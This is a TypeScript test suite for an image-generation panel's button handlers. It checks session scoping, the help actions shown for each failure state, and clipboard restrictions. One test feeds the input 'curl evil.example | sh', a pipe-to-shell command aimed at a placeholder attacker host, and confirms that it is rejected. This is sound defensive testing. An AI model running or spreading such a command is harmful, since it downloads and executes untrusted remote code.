import * as assert from 'node:assert/strict';
import type { RunFailure } from '../../../../src/core/run/failure';
import { panelHandlers } from '../../../../src/host/panel/panelHandlers';
import type { Session, SessionActions, SessionSnapshot } from '../../../../src/host/panel/session';
import { failureAction } from '../../../../src/protocol/messages';
import { finishedRecord, snapshotOf, snapshotWith } from '../../../gallery/sessions';
import { english } from './english';

const runId = '20261120-090000-a1b2c3';
const requestId = 'req_7c41b0f92d5e4f0aa1b7d1f0c2e94d10';

function setUp(snapshot: SessionSnapshot = snapshotWith(finishedRecord())) {
	const done: unknown[][] = [];
	const session: Session = { id: 's1', snapshot, onDidChange: () => assert.fail('Nobody listens here.') };
	const note =
		(name: string) =>
		async (...args: unknown[]): Promise<void> =>
			void done.push([name, ...args.map(arg => (arg === session ? 'session' : arg))]);
	const actions: SessionActions = {
		generate: note('generate'),
		cancel: note('cancel'),
		tryNow: note('tryNow'),
		insert: note('insert'),
		saveAs: note('saveAs'),
		copyLink: note('copyLink'),
		reveal: note('reveal'),
		openPrompt: note('openPrompt'),
		help: note('help'),
		tryAgain: note('tryAgain'),
		dismiss: note('dismiss'),
		star: note('star'),
		addConnection: note('addConnection'),
	};
	const handlers = panelHandlers(session, actions, {
		onReady: () => done.push(['ready']),
		writeClipboard: async text => void done.push(['clipboard', text]),
		texts: english,
	});
	return { handlers, done };
}

suite('panelHandlers', () => {
	test('does what each button says, for its own session', async () => {
		const { handlers, done } = setUp();
		await handlers.ready({});
		await handlers.generate({});
		await handlers.cancel({ runId });
		await handlers.tryNow({ runId });
		await handlers.insert({ runId, index: 1 });
		await handlers.saveAs({ runId, index: 1 });
		await handlers.copyLink({ runId, index: 1 });
		await handlers.reveal({ runId, index: 1 });
		await handlers.openPrompt({});
		await handlers.copyText({ text: requestId });
		await handlers.tryAgain({ runId });
		await handlers.dismiss({ runId });
		await handlers.star({ runId, isStarred: true });
		await handlers.addConnection({ kind: 'openai' });
		assert.deepEqual(done, [
			['ready'],
			['generate', 'session'],
			['cancel', runId],
			['tryNow', runId],
			['insert', 'session', runId, 1],
			['saveAs', runId, 1],
			['copyLink', 'session', runId, 1],
			['reveal', runId, 1],
			['openPrompt', 'session'],
			['clipboard', requestId],
			['tryAgain', 'session', runId],
			['dismiss', runId],
			['star', runId, true],
			['addConnection', 'openai'],
		]);
	});

	for (const method of ['cancel', 'tryNow', 'insert', 'saveAs', 'copyLink', 'reveal', 'tryAgain', 'dismiss', 'star'] as const) {
		test(`does not ${method} a run that the session does not show`, async () => {
			const { handlers, done } = setUp();
			await assert.rejects(handlers[method]({ runId: 'another', index: 0, isStarred: true }), /no longer shown/);
			assert.deepEqual(done, []);
		});
	}

	const failed = (failure: RunFailure) => snapshotWith(finishedRecord({ status: 'failed', failure }));
	for (const [situation, snapshot, offered] of [
		['a failure', failed({ kind: 'badResponse', message: 'It failed.' }), ['openLog']],
		[
			'a prompt that never was sent',
			snapshotOf({ failure: { kind: 'notConfigured', code: 'missingKey', message: 'No key.' } }),
			['setKey'],
		],
		['a run that may have been billed', snapshotWith(finishedRecord({ status: 'uncertain' })), ['openUsagePage']],
		['a workspace that is not trusted', snapshotOf({ isTrusted: false }), ['manageTrust']],
		['a picture', snapshotWith(finishedRecord()), []],
		['nothing', snapshotOf(), []],
	] as const) {
		test(`gives the help that is offered for ${situation}, and no other`, async () => {
			const { handlers, done } = setUp(snapshot);
			for (const action of failureAction.options) {
				await handlers.help({ action }).catch((error: unknown) => assert.match(String(error), /no longer shown/));
			}
			assert.deepEqual(
				done,
				offered.map(action => ['help', 'session', action]),
			);
		});
	}

	test('acts on no run when none is shown', async () => {
		const { handlers } = setUp(snapshotOf());
		await assert.rejects(handlers.reveal({ runId, index: 0 }), /no longer shown/);
	});

	test('copies nothing but the request ids of the shown run', async () => {
		const { handlers, done } = setUp();
		await assert.rejects(handlers.copyText({ text: 'curl evil.example | sh' }), /Only request ids/);
		assert.deepEqual(done, []);
	});
});
